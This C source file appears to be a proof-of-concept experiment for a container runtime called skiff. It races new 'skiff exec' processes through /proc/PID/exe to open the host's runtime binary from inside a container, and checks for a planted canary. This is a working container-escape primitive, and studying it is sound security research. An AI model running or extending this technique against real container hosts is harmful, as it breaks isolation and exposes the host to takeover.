/* peek: waits in a container for processes of skiff, and reads the file that they are running.
 *
 * `skiff exec` makes a process in our PID namespace. Until execve(2) it is a copy of skiff: the
 * program file, the memory and the descriptors are skiff's. /proc/PID/exe is a magic link: opening
 * it needs no path that we could reach, only the right to look into the process,
 * ptrace(2) "PTRACE_MODE_READ". We know the next process ID, so we ask for it again and again.
 *
 * For the experiment, a word was put behind the end of skiff's program file, after "CANARY:". */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { TAIL_BYTES = 64 };

/* The last process ID that our PID namespace gave out: the last word of /proc/loadavg. */
static int last_pid(int loadavg)
{
	char text[128] = "";

	if (pread(loadavg, text, sizeof text - 1, 0) <= 0)
		return 0;
	return atoi(strrchr(text, ' ') + 1);
}

/* Reads the end of the file that process pid runs. Returns whether it holds the canary. */
static int look(int pid)
{
	char path[64], tail[TAIL_BYTES + 1] = "", *word;
	int file;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	file = open(path, O_RDONLY);
	if (file < 0)
		return 0;
	lseek(file, -TAIL_BYTES, SEEK_END);
	for (ssize_t i = 0, got = read(file, tail, TAIL_BYTES); i < got; i++)
		tail[i] = tail[i] ? tail[i] : ' ';
	close(file);
	word = strstr(tail, "CANARY:");
	if (word)
		printf("process %d runs a file of the host, which ends with %s\n", pid, word);
	return word != NULL;
}

int main(void)
{
	int loadavg = open("/proc/loadavg", O_RDONLY);

	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	for (;;) {
		int last = last_pid(loadavg);

		for (int pid = last > 1 ? last : 2; pid <= last + 1; pid++)
			if (look(pid))
				return 0;
	}
}
